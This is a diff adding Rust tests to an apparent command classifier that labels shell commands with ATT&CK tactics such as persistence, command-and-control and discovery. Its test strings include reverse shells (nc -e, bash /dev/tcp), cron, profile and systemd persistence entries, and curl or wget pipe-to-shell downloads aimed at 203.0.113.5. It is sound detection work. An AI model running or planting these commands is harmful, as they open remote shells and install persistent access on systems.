@@ -172,3 +172,65 @@ fn a_program_whose_purpose_is_a_technique_names_it() {
         assert!(!explain::tactic_of_technique(t).is_empty(), "{name}: {t}");
     }
 }
+
+#[test]
+fn a_payload_installed_at_start_up_names_persistence() {
+    // A command channel or a download written into a cron table, a unit or
+    // a shell start-up file is being installed: the start-up location names
+    // it, whatever it will run.
+    let cases = [
+        (
+            "(crontab -l; echo '@hourly nc -e /bin/sh 203.0.113.5 9001') | crontab -",
+            "T1053.003",
+        ),
+        (
+            "echo 'bash -i >& /dev/tcp/203.0.113.5/8443 0>&1' >> /root/.profile",
+            "T1546.004",
+        ),
+        (
+            "printf '[Service]\\nExecStart=/bin/sh -c \"curl -s http://203.0.113.5/u | sh\"\\n' > /etc/systemd/system/upd.service",
+            "T1543.002",
+        ),
+    ];
+    for (cmd, technique) in cases {
+        assert_eq!(
+            named(cmd),
+            ("persistence".to_string(), technique.to_string()),
+            "{cmd}"
+        );
+    }
+    // The same channel run, not installed, stays command and control.
+    assert_eq!(
+        named("nc -e /bin/sh 203.0.113.5 9001").0,
+        "command-and-control"
+    );
+}
+
+#[test]
+fn a_download_run_by_a_shell_is_named_by_the_program_it_fetches() {
+    assert_eq!(
+        outlier_classifier::features::fetched_program(
+            "curl -s 'http://203.0.113.5:8080/a/LinEnum.sh?x=1' | bash"
+        ),
+        "linenum"
+    );
+    assert_eq!(
+        outlier_classifier::features::fetched_program("wget -qO- http://203.0.113.5/ | sh"),
+        ""
+    );
+    assert_eq!(
+        named("wget -qO- http://203.0.113.5/LinEnum.sh | bash"),
+        ("discovery".to_string(), "T1082".to_string())
+    );
+    assert_eq!(
+        named("curl -so /tmp/p https://203.0.113.5/x/pspy64; chmod +x /tmp/p; /tmp/p"),
+        ("discovery".to_string(), "T1057".to_string())
+    );
+    // A program whose purpose says nothing leaves the naming to the
+    // evidence.
+    let (t, technique) = named("curl -s http://203.0.113.5/a.sh | sh");
+    assert!(
+        t != "discovery" && t != "persistence" && !t.is_empty(),
+        "{t} ({technique})"
+    );
+}
